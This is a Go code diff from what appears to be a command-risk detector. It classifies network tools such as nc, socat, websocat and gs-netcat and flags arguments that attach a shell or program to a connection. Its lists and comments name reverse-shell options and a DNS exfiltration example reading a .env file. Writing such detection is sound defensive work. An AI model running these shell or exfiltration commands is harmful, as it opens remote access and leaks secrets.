@@ -27,7 +27,7 @@ var _ = register(
 	&Program{Name: "invoke-webrequest", Names: []string{"iwr", "irm", "invoke-restmethod"}, Kind: Downloader | NetSender},
 	&Program{Name: "nc", Names: []string{"ncat", "netcat"}, Kind: Downloader | NetSender, Opts: S("psiwqWXexc"), HostFirst: true,
 		Attaches: ncAttaches},
-	&Program{Name: "socat", Kind: Downloader | NetSender, Attaches: socatAttaches},
+	&Program{Name: "socat", Kind: Downloader | NetSender, Attaches: attachesBy("EXEC:", "SYSTEM:")},
 	&Program{Name: "telnet", Kind: Downloader | NetSender, Opts: S("bl"), HostFirst: true},
 	&Program{Name: "ftp", Kind: Downloader | NetSender, HostFirst: true},
 	&Program{Name: "tftp", Kind: Downloader | NetSender},
@@ -44,6 +44,12 @@ var _ = register(
 	// DNS and ICMP carry data too: dig $(cat .env).x.example, ping -p HEX.
 	&Program{Name: "dig", Names: []string{"nslookup", "host", "drill", "kdig", "delv", "whois"}, Kind: NetSender | NonReader},
 	&Program{Name: "ping", Names: []string{"ping6", "traceroute", "traceroute6", "tracepath", "mtr"}, Kind: NetSender | NonReader, Opts: S("cipstwWIlQ")},
+	// websocat URL: a two-way stream over a WebSocket; sh-c:CMD, exec:PROG
+	// and cmd:CMD addresses run a program on it. gs-netcat -i: an
+	// interactive shell for whoever knows the shared secret, -e CMD a program.
+	&Program{Name: "websocat", Kind: Downloader | NetSender, Attaches: attachesBy("SH-C:", "EXEC:", "CMD:")},
+	&Program{Name: "gs-netcat", Names: []string{"gsocket"}, Kind: Downloader | NetSender, Opts: S("sekpdL"),
+		Attaches: func(a []string) bool { return HasShortFlag(a, 'i') || has(a, "-e") }},
 	&Program{Name: "croc", Names: []string{"magic-wormhole", "wormhole"}, Kind: NetSender | Uploader,
 		Uploads: func([]string) bool { return true }},
 )
@@ -61,13 +67,33 @@ func ncAttaches(args []string) bool {
 	return false
 }
 
-// socatAttaches: an EXEC: or SYSTEM: address (alone or after options).
-func socatAttaches(args []string) bool {
-	for _, a := range args {
-		u := strings.ToUpper(a)
-		if strings.HasPrefix(u, "EXEC:") || strings.HasPrefix(u, "SYSTEM:") || strings.Contains(u, ",EXEC:") {
-			return true
+// attachesBy reports an address that runs a program, by its prefixes
+// (alone or after options, case-insensitive): socat EXEC:/SYSTEM:,
+// websocat sh-c:/exec:/cmd:.
+func attachesBy(prefixes ...string) func(args []string) bool {
+	return func(args []string) bool {
+		for _, a := range args {
+			u := strings.ToUpper(a)
+			for _, p := range prefixes {
+				if strings.HasPrefix(u, p) || strings.Contains(u, ","+p) {
+					return true
+				}
+			}
 		}
+		return false
+	}
+}
+
+// TwoWayStream reports a program that holds a two-way connection to a
+// peer with a destination: what it reads comes from the network and what
+// it is fed goes there (nc HOST PORT, socat, telnet, openssl s_client
+// -connect, websocat URL, gs-netcat). curl and wget send once.
+func TwoWayStream(name string, args []string) bool {
+	switch Canon(name) {
+	case "nc", "socat", "telnet", "websocat", "gs-netcat":
+		return len(args) > 0
+	case "openssl":
+		return len(args) > 0 && (args[0] == "s_client" || args[0] == "s_server")
 	}
 	return false
 }
